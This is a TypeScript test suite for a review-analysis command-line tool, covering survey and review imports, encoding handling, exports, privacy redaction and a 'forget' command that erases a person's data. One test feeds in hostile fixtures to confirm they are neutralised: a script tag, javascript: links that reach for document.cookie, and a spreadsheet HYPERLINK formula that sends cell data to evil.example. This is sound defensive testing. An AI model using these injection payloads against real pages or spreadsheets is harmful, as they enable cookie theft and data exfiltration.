import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { radar, tempDir } from '../../test/cli.js';

const CONFIG = `
project: imports
brands:
  - id: brewlab
    name: Brewlab
    own: true
    aliases: [Brew Lab]
    products:
      - { id: kettle, name: Kettle One, aliases: [K1] }
  - id: steamway
    name: Steamway
`;

function project(): string {
  const cwd = tempDir();
  writeFileSync(join(cwd, 'radar.yaml'), CONFIG);
  return cwd;
}

function jsonl(out: string): Record<string, unknown>[] {
  return out
    .trim()
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

describe('radar import / export / forget', () => {
  it('imports survey answers from CSV with mapped columns, reports bad rows, and re-importing adds nothing', async () => {
    const cwd = project();
    writeFileSync(
      join(cwd, 'survey.csv'),
      [
        'Respondent,What did you think?,Score,When,Where',
        'Dana K.,"Boils fast, but the lid wobbles. Reach me at dana@example.org",4,2025-03-01,"Leeds, UK"',
        'Sam,,5,2025-03-02,York',
        'Ola,"Too expensive for what it is.",eleven,2025-03-03,Oslo',
        'Ola,"Quiet and pretty, my kids love the light.",5,not a date,Oslo',
        'Kim,"Bought it as a gift for my mum, she uses it daily.",5,2025-03-05,Bern',
      ].join('\n'),
    );
    const r = await radar(
      [
        'import',
        'survey.csv',
        '--brand',
        'brewlab',
        '--product',
        'kettle',
        '--map',
        'What did you think?=body',
        '--map',
        'Respondent=author',
        '--map',
        'Score=rating',
        '--map',
        'When=publishedAt',
        '--map',
        'Where=location',
      ],
      { cwd },
    );
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('row 2: no text');
    expect(r.stderr).toContain('row 3: rating "eleven"');
    expect(r.stderr).toContain('row 4: date "not a date"');
    expect(r.stderr).toMatch(/2 of 5 rows imported/);
    const exported = jsonl((await radar(['export'], { cwd })).stdout);
    expect(exported).toHaveLength(2);
    const dana = exported.find((d) => String(d.body).startsWith('Boils fast'))!;
    expect(dana.body).toContain('[email]');
    expect(dana.body).not.toContain('dana@example.org');
    expect(dana).toMatchObject({
      brand: 'brewlab',
      product: 'kettle',
      origin: 'import',
      rating: { value: 4, best: 5 },
      publishedAt: '2025-03-01',
    });
    expect(dana.authorName).toBeUndefined();
    expect(JSON.stringify(exported)).not.toContain('Dana');
    const again = await radar(
      [
        'import',
        'survey.csv',
        '--brand',
        'brewlab',
        '--product',
        'kettle',
        '--map',
        'What did you think?=body',
        '--map',
        'Respondent=author',
        '--map',
        'Score=rating',
        '--map',
        'When=publishedAt',
      ],
      { cwd },
    );
    expect(again.stderr).toMatch(/0 new, 0 updated, 2 unchanged/);
  });

  it('imports tab-separated files, with or without a header row, quotes as text', async () => {
    const cwd = project();
    writeFileSync(join(cwd, 'lines.txt'), 'The lid says "locked" but opens.\t0\nBoils fast, pours clean.\t1\n');
    const bare = await radar(['import', 'lines.txt', '--brand', 'brewlab'], { cwd });
    expect(bare.code).toBe(1);
    expect(bare.stderr).toContain('if the file has no header row, name its columns with --columns');
    const named = await radar(['import', 'lines.txt', '--brand', 'brewlab', '--columns', 'text,label'], { cwd });
    expect(named.code, named.stderr).toBe(0);
    expect(named.stderr).toMatch(/2 of 2 rows imported/);
    writeFileSync(join(cwd, 'head.tsv'), 'comment\tscore\nQuiet, and the "keep warm" button works.\t5\n');
    expect(
      (await radar(['import', 'head.tsv', '--brand', 'brewlab', '--map', 'comment=body', '--map', 'score=rating'], { cwd })).code,
    ).toBe(0);
    const bodies = jsonl((await radar(['export'], { cwd })).stdout).map((d) => d.body);
    expect(bodies).toEqual(
      expect.arrayContaining(['The lid says "locked" but opens.', 'Boils fast, pours clean.', 'Quiet, and the "keep warm" button works.']),
    );
    // The same tabs in a .csv: named, not read as one column.
    writeFileSync(join(cwd, 'tabs.csv'), 'comment\tscore\nFine.\t4\n');
    const tabs = await radar(['import', 'tabs.csv', '--brand', 'brewlab'], { cwd });
    expect(tabs.stderr).toContain('separated by tabs, not commas; pass --format tsv');
  });

  it('imports ratings on a scale from 0 (NPS answers) with --rating-scale 0-10', async () => {
    const cwd = project();
    writeFileSync(
      join(cwd, 'nps.csv'),
      ['id,comment,score', '1,Would not recommend it to anyone.,0', '2,Perfect kettle.,10', '3,Fine.,5'].join('\n'),
    );
    const refused = await radar(['import', 'nps.csv', '--brand', 'brewlab', '--rating-scale', '10'], { cwd });
    expect(refused.stderr).toContain('row 1: rating "0" is not a number on a 1–10 scale (set --rating-scale, e.g. 10 or 0-10)');
    const r = await radar(['import', 'nps.csv', '--brand', 'brewlab', '--rating-scale', '0-10', '--source', 'nps'], { cwd });
    expect(r.code, r.stderr).toBe(0);
    const ratings = jsonl((await radar(['export'], { cwd })).stdout)
      .filter((d) => d.sourceId === 'nps')
      .map((d) => d.rating)
      .sort((a, b) => (a as { value: number }).value - (b as { value: number }).value);
    expect(ratings).toEqual([
      { value: 0, best: 10, worst: 0 },
      { value: 5, best: 10, worst: 0 },
      { value: 10, best: 10, worst: 0 },
    ]);
    expect((await radar(['import', 'nps.csv', '--brand', 'brewlab', '--rating-scale', '10-0'], { cwd })).code).toBe(2);
  });

  it('imports nothing on a fatal problem: no text column, an unknown brand, --strict with bad rows', async () => {
    const cwd = project();
    writeFileSync(join(cwd, 'a.csv'), 'foo,bar\n1,2\n');
    const noText = await radar(['import', 'a.csv', '--brand', 'brewlab'], { cwd });
    expect(noText.code).toBe(1);
    expect(noText.stderr).toContain('no text column found');
    const badBrand = await radar(['import', 'a.csv', '--brand', 'nope'], { cwd });
    expect(badBrand.code).toBe(2);
    writeFileSync(join(cwd, 'c.csv'), 'text\nLovely kettle.\n');
    const badProduct = await radar(['import', 'c.csv', '--brand', 'brewlab', '--product', 'kettel'], { cwd });
    expect(badProduct.code).toBe(2);
    expect(badProduct.stderr).toContain('--product kettel: no such product of brewlab in radar.yaml (products: kettle)');
    writeFileSync(join(cwd, 'b.jsonl'), '{"text":"Lovely kettle."}\n{"text":""}\nnot json\n');
    const strict = await radar(['import', 'b.jsonl', '--brand', 'brewlab', '--strict'], { cwd });
    expect(strict.code).toBe(1);
    expect(strict.stderr).toContain('line 3');
    expect(jsonl((await radar(['export'], { cwd })).stdout)).toHaveLength(0);
  });

  it('links imported mentions to the brands they name and drops brand-less ones', async () => {
    const cwd = project();
    writeFileSync(
      join(cwd, 'posts.jsonl'),
      [
        '{"id":"1","text":"Brew Lab K1 vs Steamway, which one?","author":"a"}',
        '{"id":"2","text":"Nothing to do with kettles","author":"b"}',
      ].join('\n'),
    );
    const r = await radar(['import', 'posts.jsonl', '--kind', 'mention'], { cwd });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('row 2: names no configured brand');
    const [post] = jsonl((await radar(['export', '--kind', 'mention'], { cwd })).stdout);
    expect(post).toMatchObject({ kind: 'mention', brands: ['brewlab', 'steamway'], products: ['kettle'] });
    const csv = (await radar(['export', '--format', 'csv', '--brand', 'steamway'], { cwd })).stdout.trim().split('\n');
    expect(csv[0]).toMatch(/^id,kind,brand,product,source,url/);
    expect(csv).toHaveLength(2);
  });

  it('keeps earlier imports when another file of the same name comes, and counts an answer given twice twice', async () => {
    const cwd = project();
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(cwd, 'week1'));
    mkdirSync(join(cwd, 'week2'));
    writeFileSync(join(cwd, 'week1', 'survey.csv'), 'text\nThe kettle pours beautifully.\nGood\nGood\n');
    writeFileSync(join(cwd, 'week2', 'survey.csv'), 'text\nThe handle gets hot after a minute.\n');
    expect((await radar(['import', 'week1/survey.csv', '--brand', 'brewlab'], { cwd })).stderr).toMatch(/3 new/);
    expect((await radar(['import', 'week2/survey.csv', '--brand', 'brewlab'], { cwd })).stderr).toMatch(/1 new, 0 updated/);
    const bodies = jsonl((await radar(['export', '--include-duplicates'], { cwd })).stdout)
      .map((d) => d.body)
      .sort();
    expect(bodies).toEqual(['Good', 'Good', 'The handle gets hot after a minute.', 'The kettle pours beautifully.']);
    expect((await radar(['import', 'week1/survey.csv', '--brand', 'brewlab'], { cwd })).stderr).toMatch(/0 new, 0 updated, 3 unchanged/);
  });

  it('leaves the previous export file as it was when an export fails, and says what to fix for a missing folder', async () => {
    const cwd = project();
    writeFileSync(join(cwd, 'e.jsonl'), '{"id":"1","text":"Quiet and quick to boil."}\n');
    expect((await radar(['import', 'e.jsonl', '--brand', 'brewlab'], { cwd })).code).toBe(0);
    expect((await radar(['export', '--out', 'backup.jsonl'], { cwd })).code).toBe(0);
    const { readFileSync, readdirSync } = await import('node:fs');
    const before = readFileSync(join(cwd, 'backup.jsonl'), 'utf8');
    expect(before).toContain('Quiet and quick');
    const dead = await radar(['export', '--out', 'backup.jsonl'], { cwd, env: { RADAR_MONGODB_URI: 'mongodb://127.0.0.1:1/x' } });
    expect(dead.code).not.toBe(0);
    expect(readFileSync(join(cwd, 'backup.jsonl'), 'utf8')).toBe(before);
    expect(readdirSync(cwd).filter((f) => f.includes('partial'))).toEqual([]);
    const nowhere = await radar(['export', '--out', 'no/such/folder/x.jsonl'], { cwd });
    expect(nowhere.code).toBe(2);
    expect(nowhere.stderr).toMatch(/--out no\/such\/folder\/x\.jsonl: the folder .* does not exist/);
  });

  it('reads UTF-16 and BOM-prefixed files, refuses text that is not UTF-8 unless its encoding is named, and says what is wrong with a file', async () => {
    const cwd = project();
    writeFileSync(join(cwd, 'latin1.csv'), Buffer.from('text\n"Tr\xe8s bon caf\xe9, vraiment"\n', 'latin1'));
    const refused = await radar(['import', 'latin1.csv', '--brand', 'brewlab'], { cwd });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/latin1\.csv is not UTF-8 \(line 2.*--encoding windows-1252/);
    expect((await radar(['import', 'latin1.csv', '--brand', 'brewlab', '--encoding', 'windows-1252'], { cwd })).code).toBe(0);
    writeFileSync(
      join(cwd, 'wide.csv'),
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('text\n"Schön leise, sehr gut"\n', 'utf16le')]),
    );
    expect((await radar(['import', 'wide.csv', '--brand', 'brewlab'], { cwd })).code).toBe(0);
    writeFileSync(join(cwd, 'bom.jsonl'), '\uFEFF{"text":"The first line counts too."}\n{"text": oops\n');
    const bom = await radar(['import', 'bom.jsonl', '--brand', 'brewlab'], { cwd });
    expect(bom.stderr).toMatch(/line 2: /);
    expect(bom.stderr).not.toMatch(/row 2: no text/);
    const bodies = jsonl((await radar(['export'], { cwd })).stdout).map((d) => d.body);
    expect(bodies).toEqual(expect.arrayContaining(['Très bon café, vraiment', 'Schön leise, sehr gut', 'The first line counts too.']));
    writeFileSync(join(cwd, 'twice.csv'), 'text,text\nGood,Bad\n');
    expect((await radar(['import', 'twice.csv', '--brand', 'brewlab'], { cwd })).stderr).toMatch(/column "text" appears twice/);
    writeFileSync(join(cwd, 'empty.csv'), '');
    expect((await radar(['import', 'empty.csv', '--brand', 'brewlab'], { cwd })).stderr).toMatch(/empty\.csv is empty/);
    const self = await radar(['import', 'bom.jsonl', '--brand', 'brewlab', '--errors', 'bom.jsonl'], { cwd });
    expect(self.code).toBe(2);
    expect(self.stderr).toMatch(/that is the file being imported/);
  });

  it('hands out no display names in exports once privacy.storeAuthorNames is off, even names stored before', async () => {
    const cwd = project();
    writeFileSync(join(cwd, 'radar.yaml'), `${CONFIG}privacy:\n  storeAuthorNames: true\n`);
    writeFileSync(join(cwd, 'n.jsonl'), '{"id":"1","text":"Quiet and quick to boil.","author":"Aisha B."}\n');
    expect((await radar(['import', 'n.jsonl', '--brand', 'brewlab'], { cwd })).code).toBe(0);
    expect(jsonl((await radar(['export'], { cwd })).stdout)[0]!.authorName).toBe('Aisha B.');
    writeFileSync(join(cwd, 'radar.yaml'), CONFIG);
    const out = (await radar(['export'], { cwd })).stdout;
    expect(jsonl(out)).toHaveLength(1);
    expect(out).not.toContain('Aisha');
  });

  it('reads HTML character references in imported text as the characters they stand for, however often escaped', async () => {
    const cwd = project();
    writeFileSync(
      join(cwd, 'escaped.jsonl'),
      [
        { id: 'e1', title: 'Tea &amp; toast', body: 'Staff &amp; crew were lovely &#8211; i&amp;amp;amp;#39;m impressed &lt;3' },
        { id: 'e2', body: 'R&D made it, AT&T delivered it, Q&A answered &copycats.' },
      ]
        .map((r) => JSON.stringify(r))
        .join('\n'),
    );
    expect((await radar(['import', 'escaped.jsonl', '--brand', 'brewlab'], { cwd })).code).toBe(0);
    const docs = jsonl((await radar(['export'], { cwd })).stdout);
    expect(docs).toHaveLength(2);
    expect(docs.map((d) => [d.title ?? null, d.body])).toEqual(
      expect.arrayContaining([
        ['Tea & toast', "Staff & crew were lovely – i'm impressed <3"],
        [null, 'R&D made it, AT&T delivered it, Q&A answered &copycats.'],
      ]),
    );
  });

  it('refuses a link that is not a web address, and keeps a formula-like review from running in a spreadsheet (documents.csv, export)', async () => {
    const cwd = project();
    const rows = [
      { id: 'h1', body: '<script>alert("x")</script> The kettle boils fast and the lid is sturdy.', url: 'https://shop.example/r/1' },
      { id: 'h2', body: '[Claim your prize](javascript:alert(1)) The kettle is loud, **very** loud.', url: 'https://shop.example/r/2' },
      {
        id: 'h3',
        body: '=HYPERLINK("http://evil.example/?x="&A1,"click") The kettle leaks at the spout.',
        url: 'https://shop.example/r/3',
      },
      { id: 'h4', body: 'Lovely kettle, quick to boil.', url: 'javascript:alert(document.cookie)//' },
    ];
    writeFileSync(join(cwd, 'hostile.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n'));
    const imported = await radar(['import', 'hostile.jsonl', '--brand', 'brewlab', '--product', 'kettle'], { cwd });
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stderr).toContain('row 4: url "javascript:alert(document.cookie)//" is not an http(s) address');
    expect((await radar(['analyze'], { cwd })).code).toBe(0);
    const report = await radar(['report', '--format', 'csv', '--out', 'out'], { cwd });
    expect(report.code, report.stderr).toBe(0);
    const csv = parse(readFileSync(join(cwd, 'out', 'documents.csv'))) as string[][];
    const exported = parse((await radar(['export', '--format', 'csv'], { cwd })).stdout) as string[][];
    for (const table of [csv, exported]) {
      const bodies = table.map((r) => r.at(-1)!);
      expect(bodies.some((b) => b.startsWith("'=HYPERLINK("))).toBe(true);
      expect(bodies.some((b) => /^[=+@-]/.test(b))).toBe(false);
    }
  });

  it('forgets a person by name and site: documents gone, others kept, counts reported', async () => {
    const cwd = project();
    writeFileSync(
      join(cwd, 'r.jsonl'),
      [
        '{"id":"1","text":"Great kettle, fast and quiet.","author":"Dana K."}',
        '{"id":"2","text":"Lid wobbles after a month.","author":"Dana K."}',
        '{"id":"3","text":"Fine for the price.","author":"Sam"}',
      ].join('\n'),
    );
    expect((await radar(['import', 'r.jsonl', '--brand', 'brewlab'], { cwd })).code).toBe(0);
    // A report written elsewhere with --out is cleaned too.
    expect((await radar(['report', '--out', 'shared-with-sales', '--format', 'json,csv'], { cwd })).code).toBe(0);
    const { readFileSync: read } = await import('node:fs');
    expect(read(join(cwd, 'shared-with-sales', 'documents.csv'), 'utf8')).toContain('Lid wobbles');
    // A worker on another machine wrote a report to its own disk (service mode): named, not skipped in silence.
    const { EmbeddedStore } = await import('../../storage/embedded/embedded-store.js');
    const store = await EmbeddedStore.open(join(cwd, '.radar'));
    const folders = JSON.parse((await store.getMeta('reportFolders'))!) as { dir: string; host: string }[];
    expect(folders.map((x) => x.dir)).toContain(join(cwd, 'shared-with-sales'));
    await store.setMeta('reportFolders', JSON.stringify([...folders, { dir: '/srv/radar/reports', host: 'worker-7' }]));
    await store.close();
    const f = await radar(['forget', '--name', 'Dana K.', '--site', 'r.jsonl'], { cwd });
    expect(f.stderr).toContain('reports were also written to /srv/radar/reports on worker-7, which this machine cannot reach');
    expect(read(join(cwd, 'shared-with-sales', 'documents.csv'), 'utf8')).not.toContain('Lid wobbles');
    expect(read(join(cwd, 'shared-with-sales', 'report.json'), 'utf8')).not.toContain('Lid wobbles');
    expect(f.code).toBe(0);
    expect(jsonl(f.stdout)[0]).toMatchObject({ documents: 2 });
    expect(jsonl((await radar(['export'], { cwd })).stdout).map((d) => d.body)).toEqual(['Fine for the price.']);
    expect((await radar(['forget'], { cwd })).code).toBe(2);
    const anonymous = await radar(['forget', '--name', 'Anonymous', '--site', 'r.jsonl'], { cwd });
    expect(anonymous.code).toBe(2);
    expect(anonymous.stderr).toContain('names nobody in particular');
    // The store's files hold no copy of what was removed.
    const { readdirSync, readFileSync } = await import('node:fs');
    const stored = readdirSync(join(cwd, '.radar'), { recursive: true, withFileTypes: true })
      .filter((e) => e.isFile())
      .map((e) => readFileSync(join(e.parentPath, e.name), 'utf8'))
      .join('\n');
    expect(stored).not.toContain('Lid wobbles');
    expect(stored).toContain('Fine for the price.');
    // Importing the same file again leaves the forgotten person out.
    const again = await radar(['import', 'r.jsonl', '--brand', 'brewlab'], { cwd });
    expect(again.code).toBe(0);
    expect(again.stderr).toMatch(/2 rows by authors removed on request/);
    expect(jsonl((await radar(['export'], { cwd })).stdout).map((d) => d.body)).toEqual(['Fine for the price.']);
    // A name with nothing stored under it says so, with what to try instead, and exits 1.
    const none = await radar(['forget', '--name', 'Nobody Here', '--site', 'r.jsonl'], { cwd });
    expect(none.code).toBe(1);
    expect(none.stderr).toMatch(/nothing was stored under the name "Nobody Here".*profile URL/);
  });

  it('forgets a person in every report CSV: personas, brands, themes and key drivers rendered again from the cleaned report.json, named as stale without one', async () => {
    const cwd = project();
    const reviews = [
      { id: '1', author: 'Dana K.', text: 'The price is far too high for a kettle this flimsy.' },
      { id: '2', author: 'Dana K.', text: 'Lid wobbles after a month and the price was a rip-off.' },
      { id: '3', author: 'Sam', text: 'Fine for the price, it boils fast.' },
      { id: '4', author: 'Ola', text: 'Great value for the price and very quiet.' },
      { id: '5', author: 'Lee', text: 'Good price, the lid is sturdy.' },
    ];
    writeFileSync(join(cwd, 'r.jsonl'), reviews.map((r) => JSON.stringify(r)).join('\n'));
    expect((await radar(['import', 'r.jsonl', '--brand', 'brewlab', '--product', 'kettle'], { cwd })).code).toBe(0);
    expect((await radar(['analyze'], { cwd })).code).toBe(0);
    expect((await radar(['report', '--out', 'full', '--format', 'json,csv'], { cwd })).code).toBe(0);
    expect((await radar(['report', '--out', 'csv-only', '--format', 'csv'], { cwd })).code).toBe(0);
    const csvs = ['personas.csv', 'brands.csv', 'themes.csv', 'key-drivers.csv'];
    for (const f of csvs) expect(existsSync(join(cwd, 'csv-only', f)), f).toBe(true);
    const docs = parse(readFileSync(join(cwd, 'full', 'documents.csv')), { columns: true }) as Record<string, string>[];
    const danas = docs.filter((d) => /too high|Lid wobbles/.test(d.body!)).map((d) => d.id!);
    expect(danas).toHaveLength(2);
    const exampleIds = (file: string) =>
      (parse(readFileSync(file), { columns: true }) as Record<string, string>[]).flatMap((r) =>
        r.example_documents!.split(' ').filter(Boolean),
      );
    // The price theme quotes Dana's reviews as examples before.
    expect(exampleIds(join(cwd, 'full', 'themes.csv'))).toEqual(expect.arrayContaining(danas));

    const f = await radar(['forget', '--name', 'Dana K.', '--site', 'r.jsonl'], { cwd });
    expect(f.code, f.stderr).toBe(0);
    const { REPORT_CSVS } = await import('../../reports/render/report-files.js');
    const cleaned = JSON.parse(readFileSync(join(cwd, 'full', 'report.json'), 'utf8')) as import('../../reports/model.js').ReportData;
    for (const name of csvs) expect(readFileSync(join(cwd, 'full', name), 'utf8'), name).toBe(REPORT_CSVS[name]!(cleaned));
    expect(exampleIds(join(cwd, 'full', 'themes.csv')).filter((id) => danas.includes(id))).toEqual([]);
    expect(exampleIds(join(cwd, 'full', 'themes.csv')).length).toBeGreaterThan(0);
    // Without report.json the CSVs cannot be rendered again: each is named for writing again.
    for (const name of csvs) expect(f.stderr).toContain(`radar forget: ${join(cwd, 'csv-only', name)} may still quote this person`);
    expect(f.stderr).not.toContain(join(cwd, 'full', 'themes.csv'));
    expect(readFileSync(join(cwd, 'csv-only', 'documents.csv'), 'utf8')).not.toContain('Lid wobbles');
  });
});
